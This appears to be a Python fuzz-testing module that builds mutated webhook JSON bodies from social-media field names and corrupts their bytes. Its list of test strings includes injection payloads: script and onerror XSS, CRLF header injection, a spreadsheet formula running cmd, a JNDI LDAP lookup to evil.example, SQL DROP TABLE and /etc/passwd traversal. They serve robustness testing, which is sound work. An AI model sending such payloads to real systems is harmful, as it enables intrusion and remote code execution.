"""Values and bodies that somebody might send to see what breaks."""

from __future__ import annotations

import json
from collections.abc import Callable
from random import Random
from typing import Any

TEXTS = (
    "",
    " ",
    "0",
    "-1",
    "1" * 130,
    "a" * 5_000,
    "\x00",
    "\x1b[2J\x9b31m\x07",
    "\r\nSet-Cookie: a=b\r\n\r\n<h1>",
    "\u0085\u2028\u2029",
    "\ud800",
    "\udfff\ud800",
    "\U0001f4e6\u200d\ufe0f",
    "\u202egnp.exe\u2066\u2069\u200e",
    "\ufeff",
    "\uffff\U0010ffff",
    "e" + "\u0301" * 300,
    "\u0661\u0662\u0663",
    "\ufdfa" * 50,
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>'",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}}${jndi:ldap://evil.example}%n%s",
    "'; DROP TABLE mentions; --",
    "../../etc/passwd",
    "javascript:alert(1)",
    "http://[::1",
    "https://evil.example/\u202egnp",
    "facebook:1_2",
    "x:1",
    "sha256=",
    "2026-03-02T09:00:00Z",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+14:00",
    "1e999",
    "NaN",
    "[" * 200,
)
NUMBERS = (0, -1, 1, 5, 2**31, 2**53 + 1, 2**63, 10**18, 10**400, -(10**400), 0.1, -0.0, 1e308, -1e308, 5e-324)
SCALARS: tuple[Any, ...] = (None, True, False, *NUMBERS, *TEXTS)
NAMES = (
    *("object", "entry", "id", "time", "changes", "changed_fields", "field", "value", "messaging", "standby", "item"),
    *("verb", "from", "message", "comment_id", "post_id", "parent_id", "created_time", "open_graph_story_id", "rating"),
    *("reviewer_id", "media", "media_id", "username", "data", "event_type", "payload", "filter", "user_id", "includes"),
    *("users", "public_metrics", "referenced_tweets", "type", "text", "author_id", "edit_history_tweet_ids", "lang"),
    *("note_tweet", "tweet_create_events", "tweet_delete_events", "favorite_events", "for_user_id", "user", "id_str"),
    *(
        "mentions",
        "author",
        "handle",
        "followers",
        "name",
        "state",
        "kind",
        "url",
        "posted_at",
        "edited_at",
        "language",
    ),
    *("in_reply_to", "conversation_id", "network", "", "\ud800", "\x00", "__proto__", "k" * 3_000),
)
WORDS = (
    *("page", "instagram", "feed", "ratings", "mention", "mentions", "comments", "live_comments", "comment", "rating"),
    *("add", "edited", "remove", "post", "like", "retweeted", "replied_to", "quoted", "post.create", "post.delete"),
    *("post.mention.create", "removed", "answered", "open", "review", "direct_message", "brand", "100"),
)

Path = tuple[Any, Any]


def value(rng: Random, depth: int = 3) -> Any:
    """Any JSON value, of words that the networks use as often as not."""
    roll = rng.random()
    if depth and roll < 0.15:
        return [value(rng, depth - 1) for _ in range(rng.randrange(4))]
    if depth and roll < 0.4:
        return {rng.choice(NAMES): value(rng, depth - 1) for _ in range(rng.randrange(5))}
    return rng.choice(WORDS if roll < 0.65 else SCALARS)


def places(document: Any) -> list[Path]:
    """Every container of a document with each key or index in it."""
    found: list[Path] = []
    waiting = [document]
    while waiting:
        container = waiting.pop()
        if isinstance(container, dict | list):
            inside = list(container.items() if isinstance(container, dict) else enumerate(container))
            found += [(container, key) for key, _ in inside]
            waiting += [child for _, child in inside]
    return found


def disturb(rng: Random, document: Any) -> None:
    """Change one place of the document: another value, nothing, a further field, or itself once more."""
    found = places(document)
    if not found:
        return
    container, key = rng.choice(found)
    how = rng.randrange(4)
    if how == 0 and isinstance(container, dict):
        del container[key]
    elif how == 1 and isinstance(container[key], dict):
        container[key][rng.choice(NAMES)] = value(rng)
    elif how == 2:
        container[key] = [container[key]] * rng.randrange(3)
    else:
        container[key] = value(rng)


def written(rng: Random, document: Any) -> bytes:
    """As JSON: escaped, as UTF-8, or with halves of surrogate pairs as no UTF-8 has them."""
    escaped = rng.random() < 0.6
    return json.dumps(document, ensure_ascii=escaped).encode("utf-8", "surrogatepass")


def _flipped(rng: Random, body: bytes) -> bytes:
    if not body:
        return b"\x00"
    changed = bytearray(body)
    changed[rng.randrange(len(changed))] ^= 1 << rng.randrange(8)
    return bytes(changed)


def _deep(rng: Random, body: bytes) -> bytes:
    levels = rng.choice((60, 63, 64, 65, 66, 500, 5_000))
    opening, closing = rng.choice(((b"[", b"]"), (b'{"a":', b"}"), (b'[{"\\"":', b"}]")))
    return opening * levels + rng.choice((body, b"1", b"")) + closing * rng.choice((levels, levels - 1, 0))


def _spliced(piece: bytes) -> Callable[[Random, bytes], bytes]:
    def splice(rng: Random, body: bytes) -> bytes:
        place = rng.randrange(len(body) + 1)
        return body[:place] + piece + body[place:]

    return splice


SPOILERS: tuple[Callable[[Random, bytes], bytes], ...] = (
    _flipped,
    _deep,
    lambda rng, body: body[: rng.randrange(len(body) + 1)],
    lambda rng, body: body + rng.choice((b"{}", b"]", b"\x00", b" ", b"\xff", body)),
    lambda _rng, body: b"\xef\xbb\xbf" + body,
    lambda _rng, body: body.decode("utf-8", "replace").encode("utf-16"),
    lambda rng, body: body.replace(b":", b":" + rng.choice((b"NaN", b"-Infinity", b"1e999", b"9" * 5_000)) + b",", 1),
    lambda rng, body: body.replace(b'"', rng.choice((b"'", b'\\"', b'""', b"\\")), rng.randrange(1, 4)),
    lambda rng, _body: rng.randbytes(rng.randrange(80)),
    lambda _rng, body: body.replace(b"{", b'{"id":"1","id":["2"],', 1),
    *map(_spliced, (b"\x00", b"\xed\xa0\x80", b"\xc0\xaf", b"\\ud800", b"\xf4\x90\x80\x80", b"\n", b'{"a":')),
)
"""What makes of a sound body one that may be none."""
